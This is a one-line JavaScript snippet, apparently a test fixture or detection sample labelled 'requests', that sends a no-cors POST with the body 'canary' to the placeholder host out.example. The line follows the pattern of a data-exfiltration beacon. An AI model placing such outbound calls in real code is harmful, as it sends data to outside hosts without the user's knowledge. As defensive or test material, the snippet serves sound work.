/* {"family": "requests"} */
fetch('https://out.example/post', { method: 'POST', mode: 'no-cors', body: 'canary' });
